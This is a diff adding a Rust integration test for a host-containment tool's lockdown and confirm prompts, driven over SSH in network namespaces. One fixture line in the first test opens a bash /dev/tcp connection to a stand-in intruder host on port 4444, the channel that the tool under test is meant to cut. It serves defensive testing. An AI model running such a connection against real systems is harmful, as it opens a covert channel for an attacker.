@@ -1,0 +1,140 @@
+//! The questions of `guard lockdown` and `guard confirm`, answered by a person at a real terminal over OpenSSH.
+
+use std::{
+    fs,
+    net::TcpListener,
+    thread,
+    time::{Duration, Instant},
+};
+
+use guard_tests::{
+    guard::{Guard, binary},
+    new_world,
+    process::Process,
+    servers::Sshd,
+    terminal::Terminal,
+    world::World,
+};
+use serde_json::Value;
+
+const LIMIT: Duration = Duration::from_secs(60);
+
+fn line(guard: &Guard, name: &str, more: &str) -> String {
+    let at = format!("--instance {} --state-dir {}", guard.instance(), guard.state_dir().display());
+    format!("NO_COLOR=1 {} {name} {at} {more}", binary().unwrap().display())
+}
+
+/// What stands between the shell and the terminal's questions: how many there will be is asked first.
+fn plan(terminal: &mut Terminal<'_>, lockdown: &str) -> Value {
+    let (code, said) = terminal.run(&format!("{lockdown} --dry-run --json"));
+    assert_eq!(code, 0, "{said}");
+    let line = said.lines().find(|line| line.starts_with('{')).unwrap_or_else(|| panic!("no JSON: {said}"));
+    serde_json::from_str::<Value>(line).unwrap()["plan"].take()
+}
+
+fn until_ended(process: &mut Process) -> bool {
+    let deadline = Instant::now() + Duration::from_secs(10);
+    while Instant::now() < deadline {
+        if process.ended().unwrap().is_some() {
+            return true;
+        }
+        thread::sleep(Duration::from_millis(20));
+    }
+    false
+}
+
+/// Who else comes from the bastion is cut by the answer, at once; the terminal that asked lives on and counts down, and
+/// the confirmation asks what it has to.
+#[test]
+fn the_answers_at_the_terminal_count() {
+    let Some(world) = new_world("netns_lockdown_ask answers") else { return };
+    let sshd = Sshd::start(&world.server, world.dir(), 22).unwrap();
+    let guard = Guard::prepare(&world, "version: 1\nmode: audit\ninbound: []\noutbound: []\n").unwrap();
+    let listener = world.intruder.run(|| TcpListener::bind((world.intruder.v4, 4444))).unwrap();
+    let mut shell = world.server.command("/bin/bash");
+    let _shell = Process::spawn(shell.args(["-c", "exec 3<>/dev/tcp/203.0.113.9/4444; cat <&3"])).unwrap();
+    let _stream = listener.accept().unwrap();
+    let other = |world: &World| {
+        let mut command = sshd.client(&world.responder, world.server.v4.into());
+        let mut process = Process::spawn(command.args(["-tt", "echo $PPID; sleep 600"])).unwrap();
+        let pid = process.wait_line(LIMIT, |line| line.trim().parse::<u32>().is_ok()).unwrap();
+        (process, pid.trim().parse::<u32>().unwrap())
+    };
+    let (mut first, first_pid) = other(&world);
+    let (mut second, _) = other(&world);
+    let mut terminal = Terminal::open(&sshd, &world);
+    let lockdown =
+        line(&guard, "lockdown", &format!("--cgroup {} --evidence none --confirm-within 5m", world.cgroup().display()));
+
+    // No: nothing is changed.
+    let asked = plan(&mut terminal, &lockdown);
+    let others = asked["way_in"]["others"].as_array().unwrap();
+    assert_eq!(others.len(), 2, "{asked:#}");
+    let offers = asked["offered"].as_array().unwrap().len();
+    let answers = |cut: Option<u32>, go: &str| {
+        let each =
+            others.iter().map(|other| if Some(other["pid"].as_u64().unwrap() as u32) == cut { "y" } else { "n" });
+        let all: Vec<&str> = each.chain(std::iter::repeat_n("n", offers)).chain([go]).collect();
+        all.join("\n")
+    };
+    terminal.types(&lockdown);
+    terminal.types(&answers(None, "n"));
+    terminal.process.wait_line(LIMIT, |line| line.contains("nothing was changed")).unwrap();
+    assert_eq!(guard.status().unwrap()["mode"], "none");
+
+    // Yes, and one of the others goes.
+    let holder = others.iter().map(|other| other["pid"].as_u64().unwrap() as u32).find(|pid| *pid == first_pid);
+    assert_eq!(holder, Some(first_pid), "{asked:#}");
+    terminal.types(&lockdown);
+    terminal.types(&answers(Some(first_pid), "y"));
+    terminal.process.wait_line(LIMIT, |line| line.contains("-> CUT")).unwrap();
+    terminal.process.wait_line(LIMIT, |line| line.contains("CONTAINED UNTIL")).unwrap();
+    assert!(until_ended(&mut first), "cut by the answer: {}", terminal.process.output());
+    assert!(second.ended().unwrap().is_none(), "kept by the answer");
+    let said = terminal.process.output();
+    assert!(said.contains("1 socket ended"), "{said}");
+
+    // In another login: nobody is asked about a new one, since this is it, but there is one way in only.
+    let mut again = Terminal::open(&sshd, &world);
+    again.types(&line(&guard, "confirm", "--as kim"));
+    again.types("n");
+    again.process.wait_line(LIMIT, |line| line.contains("--one-way-in answers this")).unwrap();
+    assert!(guard.status().unwrap()["lockdown"]["confirmed"].is_null());
+    again.types(&line(&guard, "confirm", "--as kim"));
+    again.types("y");
+    again.process.wait_line(LIMIT, |line| line.contains("CONFIRMED by kim")).unwrap();
+    terminal.process.wait_line(LIMIT, |line| line.contains("CONFIRMED. next")).unwrap();
+    assert!(terminal.process.output().contains(" left)"), "it counted down");
+    // Nobody has the terminal any more but its shell.
+    assert_eq!(terminal.run("echo here"), (0, "here\n".to_owned()));
+    let status = guard.status().unwrap();
+    assert_eq!(status["lockdown"]["confirmed"]["by"], "kim", "{status:#}");
+    let timeline = fs::read_to_string(guard.state_dir().join("timeline.jsonl")).unwrap();
+    assert!(timeline.contains("ends the socket of out tcp 203.0.113.9:4444"), "{timeline}");
+    second.kill().unwrap();
+}
+
+/// With `--foreground` the command itself records, until it is told to stop; the lockdown goes on.
+#[test]
+fn in_the_foreground_it_records_itself() {
+    let Some(world) = new_world("netns_lockdown_ask foreground") else { return };
+    let guard = Guard::prepare(&world, "version: 1\nmode: audit\ninbound: []\noutbound: []\n").unwrap();
+    let lockdown = |foreground: &[&str]| {
+        let mut command = guard.command("lockdown").unwrap();
+        command.args(["--yes", "--allow-from", "198.51.100.7", "--evidence", "none", "--confirm-within", "none"]);
+        command.arg("--cgroup").arg(world.cgroup()).args(foreground);
+        Process::spawn(&mut command).unwrap()
+    };
+    let mut command = lockdown(&["--foreground"]);
+    command.wait_line(LIMIT, |line| line.contains("guard is ready")).unwrap();
+    let status = guard.status().unwrap();
+    assert_eq!(status["daemon"]["pid"], command.pid(), "{status:#}");
+    // Once more, where a daemon records already: that one goes on, and the command ends as any other.
+    let again = lockdown(&["--foreground"]).finish(LIMIT).unwrap();
+    assert!(again.good() && again.stdout.contains("CONTAINED, and stays so"), "{}", again.text());
+    assert!(again.stdout.contains("a daemon records already"), "{}", again.text());
+    command.signal(nix::sys::signal::Signal::SIGTERM).unwrap();
+    assert!(command.finish(LIMIT).unwrap().good());
+    let status = guard.status().unwrap();
+    assert!(status["daemon"].is_null() && status["enforcing"] == true, "{status:#}");
+}
